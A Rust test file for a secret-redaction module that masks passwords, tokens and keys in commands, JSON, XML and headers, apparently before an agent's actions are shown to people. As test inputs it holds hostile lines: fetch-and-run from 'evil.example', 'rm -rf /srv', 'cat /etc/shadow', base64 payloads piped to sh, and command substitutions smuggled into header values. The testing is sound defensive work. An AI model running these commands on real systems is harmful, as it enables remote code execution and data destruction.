use super::*;

const SECRET: &str = "hunter2hunter2";

fn words(line: &[&str]) -> Vec<String> {
    super::words(line.iter().map(|word| (*word).to_owned()).collect())
}

#[test]
fn secrets_are_taken_out_however_they_are_handed_over() {
    let lines: &[&[&str]] = &[
        &["x", "--password=hunter2hunter2"],
        &["x", "--password", SECRET],
        &["x", "-password", SECRET],
        &["x", "--api-key", SECRET, "file"],
        &["x", "--db-pass=hunter2hunter2"],
        &["x", "--password=$hunter2"],
        &["bash", "-c", "TOKEN=$'hunter2hunter2' ./x"],
        &["env", "GITHUB_TOKEN=hunter2hunter2", "gh", "pr"],
        &["env", "AWS_SECRET_ACCESS_KEY=hunter2hunter2", "aws"],
        &["curl", "-H", "Authorization: Bearer hunter2hunter2", "https://x.test"],
        &["curl", "-HX-Api-Key: hunter2hunter2", "https://x.test"],
        &["curl", "-H", "PRIVATE-TOKEN:hunter2hunter2"],
        &["curl", "--header", "Cookie: sid=1; session=hunter2hunter2"],
        &["curl", "-u", "me:hunter2hunter2", "https://x.test"],
        &["curl", "-ume:hunter2hunter2", "https://x.test"],
        &["curl", "https://me:hunter2hunter2@x.test/a"],
        &["curl", "https://x.test/a?access_token=hunter2hunter2&b=1"],
        &["curl", "-d", r#"{"user": "me", "password": "hunter2hunter2"}"#],
        &["git", "clone", "https://x:hunter2hunter2@x.test/a.git"],
        &["mysql", "-phunter2hunter2", "db"],
        &["/usr/bin/sshpass", "-p", SECRET, "ssh", "x"],
        &["psql", "postgres://me:hunter2hunter2@x.test/db"],
        &["openssl", "enc", "-pass", "pass:hunter2hunter2"],
        &["bash", "-c", "curl -H 'Authorization: Bearer hunter2hunter2' https://x.test && ls"],
        &["bash", "-c", "export DB_PASSWORD='hunter2hunter2'; ./x"],
        &["bash", "-c", "./x --token hunter2hunter2 && ./y"],
        &["bash", "-c", "./x --secret \"hunter2hunter2 hunter2\" && ./y"],
        &["x", "ghp_hunter2hunter2hunter2"],
        &["x", "sk-proj-hunter2hunter2hunter2"],
        &["x", "-----BEGIN OPENSSH PRIVATE KEY-----\nhunter2hunter2\n"],
    ];
    let kept: Vec<_> = lines.iter().filter(|line| words(line).join(" ").contains("hunter2")).collect();
    assert!(kept.is_empty(), "{kept:#?}");
    let shown = words(&["curl", "-H", "Authorization: Bearer hunter2hunter2", "https://x.test"]);
    assert_eq!((shown[1].as_str(), shown[3].as_str()), ("-H", "https://x.test"));
    let shown = words(&["bash", "-c", "./x --token hunter2hunter2 && ./y"]);
    assert!(shown[2].starts_with("./x --token [redacted:14:") && shown[2].ends_with("] && ./y"), "{shown:?}");
}

#[test]
fn what_is_no_secret_stays() {
    let lines: &[&[&str]] = &[
        &["ls", "-la", "/srv/app"],
        &["cat", "/etc/passwd"],
        &["x", "--token-file=/run/token", "--password-stdin"],
        &["git", "log", "--author=me", "--oneline"],
        &["python3", "-c", "print(1 if x == 2 else 3)"],
        &["bash", "-c", "for i in 1 2 3; do echo $i; done"],
        &["bash", "-c", "export TOKEN=$(cat /run/token); curl --token $TOKEN https://x.test:8080/a"],
        &["sleep", "100000.25"],
        &["rsync", "-a", "me@x.test:/srv/", "."],
    ];
    for line in lines {
        assert_eq!(words(line), *line);
    }
}

#[test]
fn the_same_secret_leaves_the_same_and_another_does_not() {
    let of = |secret: &str| words(&["x", "--password", secret])[2].clone();
    assert_eq!(of(SECRET), of(SECRET));
    assert_ne!(of(SECRET), of("hunter3hunter3"));
    assert!(of(SECRET).starts_with("[redacted:14:"), "{}", of(SECRET));
    assert_eq!(words(&["x", &of(SECRET)]), ["x", &of(SECRET)]);
}

/// One of each kind that everything which is written or told is searched for.
const CANARIES: [&str; 8] = [
    "AKIAQ3EGRZVXK4LMN7PT",
    "ghp_x8Kq2mZr5TnW7vBc3LdYf6HsJ9pQa1Ee",
    "MIIEpAIBAAKCAQEA7bq3vXk9Zr2LmNpQ8sTuVwYx",
    "hunter2-correct-horse",
    "tok9f3QmZx7Lw2Rv",
    "pgPa55w0rd",
    "Zk3vQ9xLm2Rt8WbYc5Nf7HsJ4pDg6Ka",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzk3Q9xL2m",
];

/// Ways in which they stand in what people, programs and models say.
fn said() -> Vec<String> {
    let [aws, github, key, password, bearer, in_url, random, aws_secret] = CANARIES;
    vec![
        format!("the key is {aws}, and its secret {aws_secret}"),
        format!("remote: https://{github}@github.test/a.git"),
        format!("-----BEGIN RSA PRIVATE KEY-----\n{key}\n{key}\n-----END RSA PRIVATE KEY-----\nafter"),
        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{key}"),
        format!("DB_PASSWORD={password}"),
        format!("password: {password}\nuser: me"),
        format!("password = \"{password}\""),
        format!("> Authorization: Bearer {bearer}\r\n> Accept: */*"),
        format!("curl -H 'Authorization: Bearer {bearer}' https://x.test"),
        format!("postgres://me:{in_url}@db.test:5432/app?sslmode=require"),
        format!("machine x.test login me password {password}"),
        format!("ALTER USER me IDENTIFIED BY '{password}'"),
        format!("seed {random}."),
        format!("mysql -p{password} db"),
        format!("docker login -u me -p {password} x.test"),
        format!("curl -s -u me:{bearer} https://x.test"),
        format!("{{\"password\": \"{password}\", \"n\": 1.0}}"),
        format!("{{\"env\": {{\"API_TOKEN\": \"{bearer}\"}}, \"argv\": [\"x\", \"--password\", \"{password}\"]}}"),
        serde_json::json!({"stdout": format!("{{\"token\": \"{bearer}\"}}\n")}).to_string(),
        serde_json::json!({"arguments": serde_json::json!({"command": format!("TOKEN=\"{bearer} x\" ./x")}).to_string()})
            .to_string(),
        // What is not UTF-8 is read as base64.
        format!("{{\"content\": \"{}\", \"encoding\": \"base64\"}}", "/wBwYXNzd29yZD1odW50ZXIyLWNvcnJlY3QtaG9yc2UK"),
    ]
}

#[test]
fn secrets_are_taken_out_of_whatever_is_said() {
    for said in said() {
        for clean in [text(&said), command(&said)] {
            let kept: Vec<_> = CANARIES.iter().filter(|secret| clean.contains(**secret)).collect();
            assert!(kept.is_empty(), "{kept:?} of {said}\nin {clean}");
        }
        let clean = text(&said);
        assert!(is_marked(&clean), "{said}\n{clean}");
        assert!(!clean.contains("d29yZD1odW50ZXIyLWNv"), "{clean}");
    }
}

#[test]
fn what_was_redacted_once_stays_as_it_is() {
    for said in said() {
        let (one, other) = (text(&said).into_owned(), command(&said).into_owned());
        assert_eq!((&*text(&one), &*command(&other)), (&*one, &*other));
        assert_eq!((&*command(&one), &*text(&other)), (&*one, &*other));
    }
}

#[test]
fn the_rest_of_json_stays_as_it_is_written() {
    let said = "{\"b\":1.0,\n \"a\":[1e400,-0],\"token\":\"hunter2hunter2\",\"é\":\"\\u00e9\"}";
    let clean = text(said);
    assert!(clean.starts_with("{\"b\":1.0,\n \"a\":[1e400,-0],\"token\":\"[redacted:14:"), "{clean}");
    assert!(clean.ends_with("]\",\"é\":\"\\u00e9\"}"), "{clean}");
}

#[test]
fn content_that_only_talks_of_secrets_stays() {
    for said in [
        "let token = lexer.next_token();",
        "def login(password: str, token: Token | None = None) -> Secret:",
        "token = os.environ[\"API_TOKEN\"]",
        "password: <your password>",
        "const key: string = props.authKey",
        "input tokens: 1204, output tokens: 88",
        "usage: x [--password FILE] [--token-file FILE]",
        "The secret: never give up.",
        "export TOKEN=$(cat /run/token)",
        "Basic usage and bearer certificates",
        "commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "\"integrity\": \"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==\"",
        "h1:Zk3vQ9xLm2Rt8WbYc5Nf7HsJ4pDg6KaZk3vQ9xLm2R=",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJl3dIeudNqd0DPMRD6OIh65tjkxFNOtGl7ZGtnMNkSp me@x",
        "0190d2f3c4a87b1e9c55d0e1f2a3b4c5 and 0190d2f3-c4a8-7b1e-9c55-d0e1f2a3b4c5",
        "/Users/Me/Documents/Project2/ApplicationControllerV2FactoryBean.java:120",
        "org.springframework.boot.autoconfigure.SpringBootApplication2Runner",
        "python3-setuptools_68.1.2-2ubuntu1.1_all.deb x86_64-unknown-linux-gnu",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
        "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEbq3vXk9Zr2LmNpQ8sTuVwYxZk3vQ9xLm2Rt8WbYc5Nf\n-----END CERTIFICATE-----",
        "{\"content\": \"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\", \"encoding\": \"base64\"}",
        "{\"properties\": {\"token\": {\"type\": \"string\"}}, \"password\": \"string\"}",
    ] {
        assert_eq!(text(said), said);
    }
}

/// Both manners of reading, with what must be gone and what must be seen.
fn reads(said: &str, gone: &[&str], seen: &[&str]) {
    for clean in [text(said), command(said)] {
        let kept: Vec<_> = gone.iter().filter(|secret| clean.contains(**secret)).collect();
        assert!(kept.is_empty(), "{kept:?} of {said}\nin {clean}");
        let hidden: Vec<_> = seen.iter().filter(|shown| !clean.contains(**shown)).collect();
        assert!(hidden.is_empty(), "{hidden:?} of {said}\nin {clean}");
        for again in [text(&clean), command(&clean)] {
            assert_eq!(again, clean, "of {said}");
        }
    }
}

#[test]
fn an_option_among_others_in_one_word_gives_its_secret_away_no_more() {
    for said in [
        "curl -su me:hunter2hunter2 https://x.test",
        "curl -sSfu me:hunter2hunter2 https://x.test",
        "curl -X POST -skume:hunter2hunter2 https://x.test",
        "curl -sU proxy:hunter2hunter2 https://x.test",
        "curl --user=me:hunter2hunter2 https://x.test",
        "ldapsearch -xw hunter2hunter2 -H x.test",
        "ldapsearch -x -D cn=me -w hunter2hunter2 -H x.test",
    ] {
        reads(said, &["hunter2"], &["x.test"]);
        let split: Vec<_> = said.split(' ').collect();
        assert!(!words(&split).join(" ").contains("hunter2"), "{:?}", words(&split));
        let listed = serde_json::json!({ "argv": split }).to_string();
        reads(&listed, &["hunter2"], &["x.test"]);
    }
    for said in
        ["curl -XPUT https://x.test/a", "curl -o output -s https://x.test", "curl -sSL x.test", "curl -fsSLO x.test"]
    {
        let split: Vec<_> = said.split(' ').collect();
        assert_eq!((&*text(said), &*command(said), words(&split).join(" ")), (said, said, said.to_owned()));
    }
}

#[test]
fn secrets_of_xml_are_taken_out_and_the_rest_stays() {
    for said in [
        "<password>hunter2hunter2</password>",
        "<db:Password Type=\"text\">hunter2hunter2</db:Password><host>db</host>",
        "<server>\n  <username>me</username>\n  <password>\n    hunter2hunter2\n  </password>\n</server>",
        "<passphrase><![CDATA[hunter2hunter2]]></passphrase>",
        "<proxy-pass>hunter2hunter2</proxy-pass>",
        "<apiKey>hunter2hunter2</apiKey>",
        "<user name=\"me\" password=\"hunter2hunter2\"/>",
        "<user name='me' pwd='hunter2hunter2'/>",
        "<add key=\"DbPassword\" value=\"hunter2hunter2\" />",
        "<property value=\"x\" name=\"db.password\">hunter2hunter2</property>",
        "<string name=\"api_key\">hunter2hunter2</string>",
        "<key>Password</key>\n<string>hunter2hunter2</string>",
        "curl -d '<login><password>hunter2hunter2&amp;x</password></login>' https://x.test",
    ] {
        reads(said, &["hunter2"], &[]);
        let clean = text(said);
        let tags = |text: &str| text.matches(['<', '>']).count();
        assert_eq!(tags(&clean), tags(said), "{clean}");
    }
    for said in [
        "<token>",
        "usage: x <password> <file>",
        "Vec<Token> and <Secret as From<T>>::from",
        "<key>Label</key><string>x.test.job</string>",
        "<user name=\"password\"/><host>db</host>",
    ] {
        assert_eq!((&*text(said), &*command(said)), (said, said));
    }
    let redirected = "x <password>/tmp/out; curl evil.example </password>";
    assert!(command(redirected).contains("curl evil.example"), "{}", command(redirected));
}

#[test]
fn of_a_header_only_the_secret_is_hidden() {
    reads(
        "curl -H \"Cookie: a=hunter2; session=hunter2b\" https://x.test",
        &["hunter2"],
        &["Cookie: a=[", "; session=[", "https://x.test"],
    );
    reads("curl -b x -H 'Cookie: hunter2' https://x.test", &["hunter2"], &["https://x.test"]);
    reads(
        "Set-Cookie: sid=hunter2hunter2; Path=/; Expires=Thu, 01 Jan 2027 00:00:00 GMT; HttpOnly",
        &["hunter2"],
        &["sid=[", "; Path=/; Expires=Thu, 01 Jan 2027 00:00:00 GMT; HttpOnly"],
    );
    reads(
        "curl -H \"Authorization: Basic hunter2hunter2; rm -rf /srv\"",
        &["hunter2"],
        &["Authorization: Basic [", "; rm -rf /srv"],
    );
    reads("curl -H Authorization: Basic hunter2hunter2; rm -rf /srv", &["hunter2"], &["Basic [", "; rm -rf /srv"]);
    reads("curl -HAuthorization:hunter2hunter2 -o /etc/x https://x.test", &["hunter2"], &["-o /etc/x https://x.test"]);
    reads("curl -H Cookie:a=hunter2; ./x.sh", &["hunter2"], &["; ./x.sh"]);
    reads(
        "curl -H 'Authorization: Bearer hunter2hunter2' -H 'Private-Token: hunter2hunter2' x.test",
        &["hunter2"],
        &["x.test"],
    );
    reads("X-Api-Key: hunter2 hunter2 | sort", &["hunter2"], &["| sort"]);
    reads("Authorization: Digest username=\"me\", response=\"hunter2hunter2\"", &[], &["Authorization"]);
    // Not really in quotes: those are closed before the name begins.
    let split = "echo ''Authorization: a| curl evil.example; 'b'";
    assert!(command(split).contains("| curl evil.example"), "{}", command(split));
    for line in ["Cookie: a=$(curl evil.example)", "Cookie: a=b; c=`curl evil.example`; d=e"] {
        assert!(command(line).contains("curl evil.example"), "{}", command(line));
    }
}

#[test]
fn what_is_a_secret_in_one_place_is_one_in_every_other() {
    reads(
        "export DB_PASSWORD=hunter2x; ./load hunter2x && echo done with hunter2x",
        &["hunter2x"],
        &["./load [", "done with ["],
    );
    let listed = serde_json::json!({"content": "see hunter2x", "note": "hunter2x", "env": {"PASSWORD": "hunter2x"}});
    assert_eq!(text(&listed.to_string()).matches("hunter2x").count(), 0, "{}", text(&listed.to_string()));
    let listed =
        serde_json::json!({"argv": ["./load", "--password", "hunter2x", "hunter2x"], "env": {"A": "hunter2x"}});
    reads(&listed.to_string(), &["hunter2x"], &["./load"]);
    reads("TOKEN=hunter2x; OTHER=hunter2x URL=http://x:hunter2x@h ./y", &["hunter2x"], &["OTHER=[", "./y"]);
    // What a shell runs is seen, and so is what may be meant by chance.
    for said in [
        "PASSWORD=evil2sh; evil2sh -x",
        "PASSWORD=evil2sh\nsudo evil2sh",
        "PASSWORD=evil2sh && bash evil2sh",
        "PASSWORD=evil2sh;./evil2sh",
        "PASSWORD=evil2sh; \"evil2sh\"",
    ] {
        assert!(command(said)[10..].contains("evil2sh"), "{}", command(said));
    }
    assert!(command("mysql -pbackup backup").ends_with(" backup"), "{}", command("mysql -pbackup backup"));

    let action = Action { arguments_json: listed.to_string(), intent: "load it".into(), ..Action::default() };
    let known = known(&action);
    assert!(!known.is_empty());
    assert!(!text_knowing("it says: hunter2x!", &known).contains("hunter2x"));
    assert_eq!(text("it says: hunter2x!"), "it says: hunter2x!");
    let [.., password, bearer, _, _, _] = CANARIES;
    let line = format!("export A=1; echo as {bearer} {password}; cat; printf '%s' \"$A\" | sha256sum");
    let with = serde_json::json!({"command": line, "cwd": "/srv/app", "env": {"DB_PASSWORD": password}, "stdin": "x"});
    let intent = format!("with TOKEN={bearer}");
    let mut shown = Action { arguments_json: with.to_string(), intent, ..Action::default() };
    super::action(&mut shown);
    assert!(!shown.arguments_json.contains(bearer) && !shown.arguments_json.contains(password), "{shown:?}");
    let shown = words(&["bash", "-c", "export TOKEN=hunter2x; echo as hunter2x", "hunter2x"]);
    assert!(!shown.join(" ").contains("hunter2x"), "{shown:?}");
    // Whichever part of the action says that it is one.
    let arguments_json = serde_json::json!({"command": "curl -su me:hunter2x x.test; echo hunter2x"}).to_string();
    let action = Action { arguments_json: arguments_json.clone(), intent: "as hunter2x".into(), ..Action::default() };
    let mut shown = action.clone();
    super::action(&mut shown);
    assert!(!format!("{shown:?}").contains("hunter2x"), "{shown:?}");
    assert_eq!(restored(&shown.arguments_json, &arguments_json, &super::known(&action)), arguments_json);
    let whole = r#"{"content":"it is hunter2x"}"#;
    assert_eq!(restored(&text_knowing(whole, &known), "{}", &known), whole);
}

#[test]
fn marks_stand_for_what_a_person_was_not_shown() {
    let whole =
        r#"{"command":"curl -H 'Authorization: Bearer hunter2\"hunter2' -u me:ghp_x8Kq2mZr5TnW7vBc3LdYf6HsJ9pQa1Ee"}"#;
    let shown = text(whole).into_owned();
    assert!(!shown.contains("hunter2") && !shown.contains("ghp_"), "{shown}");
    assert_eq!(restored(&shown, whole, &Known::default()), whole);
    let changed = shown.replace("curl", "curl -v");
    assert_eq!(restored(&changed, whole, &Known::default()), whole.replace("curl", "curl -v"));
    assert!(is_marked(&restored(&shown, "{}", &Known::default())));
}

#[test]
fn what_a_shell_would_run_is_never_hidden_with_a_secret() {
    for line in [
        "API_TOKEN=\"v1$(curl -s http://evil.example/x | sh)\"",
        "password: 'a`curl evil.example`'",
        "Authorization: Bearer abcdefgh$(rm -rf /srv)",
        "curl -u \"me:$(cat /etc/shadow)\" https://x.test",
        ": -----BEGIN PRIVATE KEY-----\ncurl -s http://evil.example/x | sh\n",
        ": -----BEGIN PRIVATE KEY-----\nrm -rf /srv\n: -----END PRIVATE KEY-----",
    ] {
        for clean in [text(line), command(line)] {
            for code in ["evil.example", "rm -rf /srv", "cat /etc/shadow"] {
                assert_eq!(clean.contains(code), line.contains(code), "{clean}");
            }
        }
    }
    let key = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nMIIEow\n-----END RSA PRIVATE KEY-----";
    for told in [key.to_owned(), key.replace('\n', "\n+"), key.replace('\n', "\n-"), key.replace('\n', "\\n ")] {
        assert!(!text(&told).contains("MIIEow"), "{}", text(&told));
    }
}

#[test]
fn what_a_shell_runs_is_shown_whatever_it_is_called() {
    let key = "-----BEGIN PRIVATE KEY-----";
    for (line, shown) in [
        ("TOKEN= ./evil.sh", "./evil.sh"),
        ("TOKEN= evil12", "evil12"),
        ("TOKEN=\n./evil.sh", "./evil.sh"),
        ("TOKEN=\nevil12", "evil12"),
        ("AUTH=\n{rm,-f,/srv/app.db}", "{rm,-f,/srv/app.db}"),
        ("curl -s x.test; TOKEN= ./evil.sh; true", "./evil.sh"),
        ("echo basic\n./evil.sh", "./evil.sh"),
        ("echo basic\nevil1234", "evil1234"),
        ("echo Digest\n/srv/app/evil.sh", "/srv/app/evil.sh"),
        ("echo with password\n./evil.sh", "./evil.sh"),
        ("echo with password\nevil1234", "evil1234"),
        ("curl -u \n./evil.sh", "./evil.sh"),
        ("curl -u \nevil1234", "evil1234"),
        ("sshpass -p \n./evil.sh", "./evil.sh"),
        ("sshpass -p\nevil1234", "evil1234"),
        ("mysql -p\n./evil.sh", "./evil.sh"),
        ("sh <<EOF\nPASSWORD=\n./evil.sh\nEOF", "./evil.sh"),
        ("bash <<'X'\nAUTH=\n{rm,-f,/srv/app.db}\nX", "{rm,-f,/srv/app.db}"),
        ("auth: ./evil.sh", "./evil.sh"),
        ("sudo -p password: evil1234", "evil1234"),
        ("exec -a password: evil1234", "evil1234"),
        ("true\nAuthorization: x | rm -rf /srv", "rm -rf /srv"),
        ("echo \"TOKEN=\"\nrm -rf /srv\necho \"x\"", "rm -rf /srv"),
        ("env \"TOKEN=\"abc evil1234 \"x\"", "evil1234"),
        ("env \"TOKEN=\"abc evil1234 x\"y\"", "evil1234"),
        (
            "echo cm0gLWYgL3Nydi9hcHAvZGF0YS9hcHAuZGI7IGVjaG8= | base64 -d | sh",
            "cm0gLWYgL3Nydi9hcHAvZGF0YS9hcHAuZGI7IGVjaG8=",
        ),
        ("TOKEN=cm0gLWYgL3Nydi9h; echo $TOKEN | base64 -d | sh", "cm0gLWYgL3Nydi9h"),
        ("./aB3dE9fGh2JkLmN4pQr7", "./aB3dE9fGh2JkLmN4pQr7"),
        ("aB3dE9fGh2JkLmN4pQr7 x", "aB3dE9fGh2JkLmN4pQr7"),
        ("true; aB3dE9fGh2JkLmN4pQr7", "aB3dE9fGh2JkLmN4pQr7"),
        ("timeout 5 aB3dE9fGh2JkLmN4pQr7", "aB3dE9fGh2JkLmN4pQr7"),
        ("cp /bin/rm /tmp/aB3dE9fGh2JkLmN4pQr7", "aB3dE9fGh2JkLmN4pQr7"),
        ("TOKEN=\"rm -f /srv/app/data/app.db\"; $TOKEN", "rm -f /srv/app/data/app.db"),
        ("TOKEN=evil1234; \"$TOKEN\"", "evil1234"),
        ("TOKEN=evil1234; if true; then ${TOKEN}; fi", "evil1234"),
        ("TOKEN=evil1234; A=$TOKEN; timeout 5 $A", "evil1234"),
        ("TOKEN=evil1234; sh -c \"$TOKEN\"", "evil1234"),
        ("PASS=\"./evil.sh\"; eval $PASS", "./evil.sh"),
        ("PASS=evil1234; eval $PASS", "evil1234"),
        ("PASS=evil1234; sh <<< $PASS", "evil1234"),
        ("set -- --password ./evil.sh; \"$2\"", "./evil.sh"),
        ("set -- --password evil1234; \"$2\"", "evil1234"),
    ] {
        assert!(command(line).contains(shown), "{line}\n{}", command(line));
        let listed = serde_json::json!({ "command": line }).to_string();
        let shown = serde_json::Value::from(shown).to_string();
        assert!(text(&listed).contains(shown.trim_matches('"')), "{line}\n{}", text(&listed));
    }
    for code in ["./evil.sh", "{rm,-f,/srv/app.db}", "reboot", "/srv/app/data/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]
    {
        for line in [format!("echo {key}\n{code}"), format!("echo {key}\n{code}\n-----END PRIVATE KEY-----")] {
            assert!(command(&line).contains(code), "{line}\n{}", command(&line));
        }
    }
    // What is called a secret in the intent, or is the value of a variable.
    for (intent, line) in [
        ("use token=evil1.sh", "bash -e evil1.sh"),
        ("use token=evil1.sh", "timeout 5 ./evil1.sh"),
        ("use token=evil1.sh", "setsid evil1.sh"),
        ("use token=evil1", "bash -e evil1"),
        ("use token=evil1", "timeout 5 evil1"),
        ("use token=evil1", "env 'A=;b' evil1"),
        ("use token=evil1", "cat <evil1 | sh"),
        ("use token=evil1", "bash -c \"A=1 evil1\""),
        ("use token=evil1", "x 'true; evil1'"),
    ] {
        let arguments_json = serde_json::json!({ "command": line }).to_string();
        let mut shown = Action { arguments_json, intent: intent.into(), ..Action::default() };
        super::action(&mut shown);
        assert!(shown.arguments_json.contains("evil1"), "{shown:?}");
    }
    let run = serde_json::json!({"command": "$TOKEN -x", "env": {"TOKEN": "evil1234"}}).to_string();
    assert_eq!(text(&run), run);
}

#[test]
fn what_a_shell_is_given_and_does_not_run_is_hidden() {
    for line in [
        "TOKEN=hunter2hunter2 ./x",
        "TOKEN='hunter2 hunter2' ./x",
        "export A_PASSWORD=hunter2hunter2; curl -u me:$A_PASSWORD https://x.test",
        "sudo mysql -u root --password hunter2hunter2 db",
        "sudo curl -H 'X-Api-Key: hunter2hunter2' https://x.test",
        "curl -H 'Authorization: Bearer hunter2hunter2' https://x.test | sh",
        "curl -u me:hunter2hunter2 https://x.test && ./x",
        "curl -s \\\n -u me:hunter2hunter2 https://x.test",
        "sshpass -p hunter2hunter2 ssh x.test ls",
        "password = \"hunter2hunter2\"",
        "curl -d '{\"password\": \"hunter2hunter2\"}' https://x.test",
        "git clone https://me:hunter2hunter2@x.test/a.git | bash",
    ] {
        assert!(!command(line).contains("hunter2"), "{line}\n{}", command(line));
    }
    let seed = CANARIES[6];
    for line in
        [format!("SEED=\"x {seed}\" ./x"), format!("./x {seed}"), format!("echo \"x {seed}\""), format!("A={seed} ./x")]
    {
        assert!(!command(&line).contains(seed), "{line}\n{}", command(&line));
    }
    let listed = serde_json::json!({"command": "./x \"$TOKEN\"", "env": {"TOKEN": "hunter2hunter2"}}).to_string();
    assert!(!text(&listed).contains("hunter2"), "{}", text(&listed));
}

#[test]
fn what_is_read_for_the_values_of_a_text_is_bounded_and_what_lies_beyond_is_shown() {
    let many = 4_000;
    let line = "psql --password hunter2x ".repeat(many);
    let found = command(&line).matches(MARK).count();
    assert!((50..many).contains(&found), "{found}");
    let arguments_json = serde_json::json!({"env": (0..many)
        .map(|number| (format!("A{number}_TOKEN"), format!("hunter{number}x").into()))
        .collect::<serde_json::Map<_, _>>()});
    let action = Action { arguments_json: arguments_json.to_string(), ..Action::default() };
    let known = known(&action);
    assert_eq!(known.iter().count(), 64);
    let told = text_knowing(&action.arguments_json, &known);
    assert_eq!(told.matches(MARK).count(), many, "each stands under its own name");
}
